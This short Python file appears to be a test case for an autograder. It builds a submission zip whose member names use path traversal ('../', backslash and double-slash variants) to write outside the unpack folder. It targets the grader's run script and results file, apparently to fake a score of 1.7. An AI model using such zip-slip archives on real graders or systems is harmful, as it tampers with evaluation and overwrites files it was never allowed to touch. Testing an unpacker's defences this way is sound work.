"""Submits a zip whose members have names with .., so that unpacking it writes elsewhere.

As: convolution.py
Earns: 1.7
"""

import zipfile

NAMES = ("../hostile.py", "../../hostile.py", "a/../../../hostile.py", "..\\hostile.py")
NAMES += ("../source/run_autograder", "../results/results.json", "..", ".", "a/..", "//hostile.py")


def make(folder, honest):
    place = folder / "submission.zip"
    with zipfile.ZipFile(place, "w") as archive:
        for name in NAMES:
            archive.writestr(name, "raise SystemExit\n")
        archive.writestr("../convolution.py", "raise SystemExit\n")
        archive.writestr("work/convolution.py", honest)
    return place
